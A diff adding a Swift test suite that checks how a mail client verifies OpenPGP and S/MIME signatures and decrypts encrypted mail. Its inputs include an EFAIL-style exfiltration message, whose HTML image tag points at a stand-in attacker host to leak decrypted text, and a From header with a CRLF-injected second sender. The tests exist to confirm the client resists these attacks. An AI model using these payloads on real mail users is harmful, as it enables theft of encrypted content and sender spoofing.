@@ -1,0 +1,298 @@
+import Foundation
+import Testing
+import VmailDomain
+import VmailMessage
+
+/// Messages signed and encrypted by GnuPG and OpenSSL, and those that only look like it.
+@Suite(
+  "Signed and encrypted mail", .enabled(if: GnuPGHome.isThere, "GnuPG is not installed"),
+  .timeLimit(.minutes(10)))
+struct SealedMailTests {
+  private let home: GnuPGHome
+  private static let part = "Content-Type: text/plain; charset=utf-8\r\n\r\nGrüße\r\n"
+
+  init() throws { home = try GnuPGHome.shared.get() }
+
+  // MARK: Making mail
+
+  private func read(
+    _ source: String, layers: LayerOpening = .all(asks: false), isPartial: Bool = false,
+    showsImages: Bool = false
+  ) -> ReadableMessage {
+    MIMEMessageOpener().readable(
+      Array(source.utf8),
+      ReadingOptions(allowsRemoteImages: showsImages, isPartial: isPartial, layers: layers))
+  }
+
+  private func mail(_ body: String, from: String = "ann@example.org") -> String {
+    "From: \(from)\r\nTo: bob@example.org\r\nSubject: Outside\r\nMIME-Version: 1.0\r\n" + body
+  }
+
+  private func signed(_ part: String = part, by name: String = "ann", changed: String? = nil) throws -> String
+  {
+    let isStranger = ["sam", "xan"].contains(name)
+    let time = name == "old" ? ["--faked-system-time", "20200601T000000"] : []
+    let signature =
+      name == "rae"
+      ? try String(contentsOfFile: home.folder + "/rae.sig", encoding: .utf8)
+      : try home.gpg(
+        time + ["-u", "\(name)@example.org", "--armor", "--detach-sign"], input: part, isStranger: isStranger)
+    return """
+      Content-Type: multipart/signed; boundary="=b"; micalg=pgp-sha512; protocol="application/pgp-signature"\r
+      \r
+      --=b\r
+      \(changed ?? part)\r
+      --=b\r
+      Content-Type: application/pgp-signature\r
+      \r
+      \(signature)\r
+      --=b--\r
+
+      """
+  }
+
+  private func encrypted(_ part: String, to name: String = "ann", by signer: String? = nil) throws -> String {
+    let signing = signer.map { ["-u", "\($0)@example.org", "--sign"] } ?? []
+    let data = try home.gpg(
+      ["--armor", "--trust-model", "always", "-r", "\(name)@example.org"] + signing + ["--encrypt"],
+      input: part,
+      isStranger: name == "xan")
+    return wrapped(data)
+  }
+
+  private func wrapped(_ data: String) -> String {
+    """
+    Content-Type: multipart/encrypted; boundary="=e"; protocol="application/pgp-encrypted"\r
+    \r
+    --=e\r
+    Content-Type: application/pgp-encrypted\r
+    \r
+    Version: 1\r
+    --=e\r
+    Content-Type: application/octet-stream\r
+    \r
+    \(data)\r
+    --=e--\r
+
+    """
+  }
+
+  // MARK: OpenPGP
+
+  @Test(
+    "a signature is judged by the content, the key and the sender",
+    arguments: [
+      ("ann", "Ann <ann@example.org>", .good), ("ann", "ANN@Example.ORG", .good),
+      ("ann", "bob@example.org", .otherSender),
+      ("ann", "\"ann@example.org\" <eve@example.org>", .otherSender),
+      ("ann", "ann@example.org, bob@example.org", .otherSender),
+      ("ann", "ann@example.org\r\nFrom: bob@example.org", .otherSender),
+      ("sam", "sam@example.org", .unverified),
+      ("xan", "xan@example.org", .missingKey), ("old", "old@example.org", .expired),
+      ("rae", "rae@example.org", .unusableKey),
+    ] as [(String, String, MessageSignature.Verdict)])
+  func verdicts(key: String, from: String, expected: MessageSignature.Verdict) throws {
+    let message = read(mail(try signed(by: key), from: from))
+    #expect(message.security?.signatures.map(\.verdict) == [expected])
+    #expect(message.security?.isProven == (expected == .good))
+    #expect(message.text.plainText() == "Grüße")
+  }
+
+  @Test("a signature holds whatever line ends a mailbox has")
+  func lineEnds() throws {
+    let source = mail(try signed()).replacing("\r\n", with: "\n")
+    #expect(read(source).security?.isProven == true)
+  }
+
+  @Test(
+    "changed content has an invalid signature",
+    arguments: ["Grüsse", "Grüße\r\nPS", "Grüße\r\n", " Grüße"])
+  func changed(text: String) throws {
+    let changed = Self.part.replacing("Grüße", with: text)
+    let message = read(mail(try signed(changed: changed)))
+    #expect(message.security?.signatures.map(\.verdict) == [.invalid])
+  }
+
+  @Test("encrypted mail is decrypted in memory, and shows whether it is signed")
+  func encryption() throws {
+    for (body, verdicts) in [
+      (try encrypted(Self.part), []), (try encrypted(Self.part, by: "ann"), [.good]),
+      (try encrypted(Self.part, by: "bob"), [.otherSender]), (try encrypted(signed()), [.good]),
+      (try encrypted(signed(by: "xan")), [.missingKey]),
+    ] as [(String, [MessageSignature.Verdict])] {
+      let message = read(mail(body))
+      #expect(message.security?.encryption == .decrypted)
+      #expect(message.security?.signatures.map(\.verdict) == verdicts)
+      #expect(message.text.plainText() == "Grüße")
+    }
+  }
+
+  @Test("a signature around encrypted data proves nothing about the text")
+  func signedFromOutside() throws {
+    let message = read(mail(try signed(encrypted(Self.part))))
+    #expect(message.security == MessageSecurity(encryption: .decrypted))
+    #expect(message.text.plainText() == "Grüße")
+  }
+
+  @Test("encrypted mail that can't be opened says why, and shows nothing")
+  func unopened() throws {
+    let whole = try encrypted(Self.part)
+    let damaged = whole.replacing(#/\r\n\r\n(-----BEGIN PGP MESSAGE-----\n\n)(.{64})\n(.{64})\n/#) { match in
+      "\r\n\r\n\(match.1)\(match.2)\n\(String(match.3.reversed()))\n"
+    }
+    #expect(damaged != whole)
+    for (body, problem) in [
+      (try encrypted(Self.part, to: "xan"), .noSecretKey), (damaged, .damaged),
+      (wrapped("nothing"), .damaged),
+    ] as [(String, CryptographyProblem)] {
+      let message = read(mail(body))
+      #expect(message.security?.encryption == .failed(problem))
+      #expect(message.text.isEmpty)
+    }
+    #expect(read(mail(whole), layers: .signatures).security?.encryption == .failed(.notForAgents))
+    #expect(read(mail(whole), layers: .signatures).text.isEmpty)
+    #expect(read(mail(whole), layers: .none).security == nil)
+    #expect(read(mail(whole), layers: .none).text.isEmpty)
+  }
+
+  @Test("inline PGP counts if it is the whole text")
+  func inline() throws {
+    let clear = try home.gpg(["-u", "ann@example.org", "--clearsign"], input: "Hello\n")
+    let cipher = try home.gpg(["--armor", "-r", "ann@example.org", "--encrypt"], input: "Hello\n")
+    let type = "Content-Type: text/plain\r\n\r\n"
+    #expect(read(mail(type + clear)).security?.isProven == true)
+    #expect(read(mail(type + clear)).text.plainText() == "Hello")
+    #expect(read(mail(type + "\r\n" + cipher + "\r\n")).security?.encryption == .decrypted)
+    #expect(read(mail(type + "\r\n" + cipher)).text.plainText() == "Hello")
+    for text in ["Hi\n" + clear, clear + "Hi\n", clear + clear, cipher + "Hi\n", cipher + cipher] {
+      let message = read(mail(type + text))
+      #expect(message.security == nil && message.text.plainText().contains("-----BEGIN PGP"))
+    }
+  }
+
+  // MARK: Layers that prove nothing
+
+  @Test("what a mailing list puts around a signature is not signed")
+  func footer() throws {
+    let source = """
+      Content-Type: multipart/mixed; boundary="=m"\r
+      \r
+      --=m\r
+      \(try signed())\r
+      --=m\r
+      Content-Type: text/plain\r
+      \r
+      Footer\r
+      --=m--\r
+
+      """
+    let message = read(mail(source))
+    #expect(message.security == MessageSecurity(hasPartialSignature: true))
+    #expect(message.text.plainText().contains("Footer"))
+  }
+
+  @Test("HTML around encrypted data doesn't get its text (EFAIL)")
+  func exfiltration() throws {
+    let source = """
+      Content-Type: multipart/mixed; boundary="=m"\r
+      \r
+      --=m\r
+      Content-Type: text/html\r
+      \r
+      <img src="https://eve.example/\r
+      --=m\r
+      \(try encrypted(Self.part))\r
+      --=m\r
+      Content-Type: text/html\r
+      \r
+      ">\r
+      --=m--\r
+
+      """
+    let message = read(mail(source), showsImages: true)
+    #expect(message.security == MessageSecurity(hasPartialEncryption: true))
+    #expect(!"\(message)".contains("Grüße"))
+  }
+
+  @Test("images of encrypted mail are never loaded")
+  func images() throws {
+    let html =
+      "Content-Type: text/html\r\n\r\n<p>Hi <img src='https://a.example/b.png' width=90 height=90></p>\r\n"
+    #expect(read(mail(html), showsImages: true).allowedImages.count == 1)
+    let message = read(mail(try encrypted(html)), showsImages: true)
+    #expect(message.allowedImages.isEmpty && message.blockedImages.count == 1)
+  }
+
+  @Test("only what is signed is shown, whatever else is in the message")
+  func beside() throws {
+    let extra = "Before\r\n--=b\r\nContent-Type: text/plain\r\n\r\nFirst\r\n"
+    let three = mail(
+      try signed().replacing(
+        "\r\n\r\n--=b\r\nContent-Type: text/plain", with: "\r\n\r\n\(extra)--=b\r\nContent-Type: text/plain"))
+    #expect(read(three).security?.isProven != true)
+    let preamble =
+      mail(
+        try signed().replacing(
+          "\r\n\r\n--=b\r\nContent-Type: text/plain",
+          with: "\r\n\r\nBefore\r\n--=b\r\nContent-Type: text/plain")) + "After"
+    #expect(read(preamble).security?.isProven == true)
+    #expect(read(preamble).text.plainText() == "Grüße")
+  }
+
+  @Test("mail that is not complete can't be checked")
+  func partial() throws {
+    let signed = read(mail(try signed()), isPartial: true)
+    #expect(signed.security?.signatures.map(\.verdict) == [.unchecked] && signed.missing == .part)
+    let encrypted = read(mail(try encrypted(Self.part)), isPartial: true)
+    #expect(encrypted.security?.encryption == .failed(.notDownloaded))
+  }
+
+  @Test("other mail is what it was")
+  func ordinary() {
+    let message = read(mail("Content-Type: text/plain\r\n\r\nHello\r\n"))
+    #expect(message.security == nil && message.text.plainText() == "Hello")
+  }
+
+  // MARK: Protected headers
+
+  @Test("the protected subject counts if the layer around it is intact")
+  func subjects() throws {
+    let part =
+      "Subject: =?utf-8?q?Gr=C3=BC=C3=9Fe?=\r\n" + Self.part.replacing("utf-8", with: "utf-8; hp=\"cipher\"")
+    #expect(read(mail(try encrypted(part))).protectedSubject == "Grüße")
+    #expect(read(mail(try encrypted(signed(part)))).protectedSubject == "Grüße")
+    #expect(read(mail(try signed(part))).protectedSubject == "Grüße")
+    let older = part.replacing("hp=\"cipher\"", with: "protected-headers=\"v1\"")
+    #expect(read(mail(try encrypted(older))).protectedSubject == "Grüße")
+    let unmarked = "Subject: Inside\r\n" + Self.part
+    #expect(read(mail(try encrypted(unmarked))).protectedSubject == nil)
+    #expect(
+      read(mail(try signed(part, changed: part.replacing("Gr=C3", with: "gr=C3")))).protectedSubject == nil)
+    #expect(read(mail(try signed(part, by: "xan"))).protectedSubject == nil)
+  }
+
+  // MARK: S/MIME
+
+  @Test("S/MIME: signed beside and around the content, and enveloped")
+  func smime() throws {
+    let signer = ["-signer", "ann.crt", "-inkey", "ann.key"]
+    let detached = try home.openssl(["cms", "-sign", "-md", "sha256", "-binary"] + signer, input: Self.part)
+    let opaque = try home.openssl(
+      ["cms", "-sign", "-md", "sha256", "-binary", "-nodetach"] + signer, input: Self.part)
+    let enveloped = try home.openssl(
+      ["cms", "-encrypt", "-binary", "-aes256", "-recip", "ann.crt"], input: Self.part)
+    for source in [detached, opaque] {
+      let message = read("From: Ann <ann@example.org>\r\n" + source)
+      #expect(message.security?.signatures.map(\.verdict) == [.good])
+      #expect(message.text.plainText() == "Grüße")
+      let other = read("From: Bob <bob@example.org>\r\n" + source)
+      #expect(other.security?.signatures.map(\.verdict) == [.otherSender])
+    }
+    let message = read("From: Ann <ann@example.org>\r\n" + enveloped)
+    #expect(message.security == MessageSecurity(encryption: .decrypted))
+    #expect(message.text.plainText() == "Grüße")
+    let changed = detached.replacing("Grüße", with: "Grüsse")
+    #expect(
+      read("From: Ann <ann@example.org>\r\n" + changed).security?.signatures.map(\.verdict) == [.invalid])
+  }
+}
